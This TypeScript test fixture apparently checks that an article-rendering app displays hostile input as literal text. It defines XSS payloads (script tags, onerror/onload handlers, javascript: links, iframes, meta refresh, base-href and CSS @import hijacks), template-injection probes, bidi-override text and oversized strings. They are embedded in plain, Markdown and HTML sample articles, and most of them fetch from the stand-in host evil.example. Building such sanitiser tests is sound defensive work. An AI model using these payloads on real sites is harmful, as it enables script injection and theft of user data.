/**
 * Articles that try everything an article can: to run, to load, to break out of where they stand, to
 * reorder what is read, to make a page too wide. What would run sets `window.ran`.
 */

const run = 'window.ran = true; fetch("https://evil.example/x")';

/** Each has to be seen in the browser as these very words. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src="https://evil.example/pixel.png" onerror='${run}'>`,
  `<svg/onload='${run}'>`,
  `"'><iframe src="https://evil.example/"></iframe>`,
  `<a href="javascript:${run}">read more</a>`,
  '<!-- <!--sourceline:data--> --> ${7*7} {{7*7}} {@html x}',
  '<style>@import "https://evil.example/a.css"; *{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '&lt;b&gt; &#60;b&#62; &amp;amp;',
];

const bidi = 'Soldiers \u202edesaeler erew\u202c from \u2066the\u2069 \u200fcamp';

const told = payloads.map(
  (payload, i) => `Police arrested ${i + 2} men on Sunday, ${payload} the mayor said.`,
);

const head = (title: string) => `${title}\n\nMonday, 28 March 2016\n\n`;

/** By file name, as text, Markdown and HTML. */
export const hostileArticles: Readonly<Record<string, string>> = {
  'plain.txt':
    head(`Mayor's ${payloads[0]} arrested`) +
    [
      ...told,
      `${bidi} on Thursday, ${payloads[2]} he said.`,
      `The army attacked ${'Long'.repeat(50_000)} on Friday.`,
      `Rebels${' '.repeat(20_000)}seized the harbour on Saturday.`,
    ].join('\n\n'),
  'matter.md': `---
title: '"><script>${run}</script>'
author: '<img src=x onerror=${JSON.stringify(run)}>'
url: 'javascript:${run}'
published: 2016-03-28
---

The army seized the bridge on Sunday, ${payloads[1]} its commander said.
`,
  'page.html': `<!doctype html><html><head>
<base href="https://evil.example/">
<title>Bridge &lt;script&gt;${run}&lt;/script&gt; falls</title>
<link rel="canonical" href="javascript:${run}">
<meta name="author" content="&lt;img src=x onerror='${run}'&gt;">
<meta property="article:published_time" content="2016-03-28">
<script>${run}</script>
<script type="application/ld+json">{"@type":"NewsArticle","url":"javascript:${run}","headline":"</p><script>x"}</script>
</head><body onload='${run}'><article>
<h1>Bridge falls</h1>
<p>The bridge collapsed on Sunday, &lt;img src=x onerror='${run}'&gt; the mayor said.</p>
<p><a href="javascript:${run}">The army</a> attacked the town on Thursday <img src="https://evil.example/p.png">.</p>
</article></body></html>`,
};
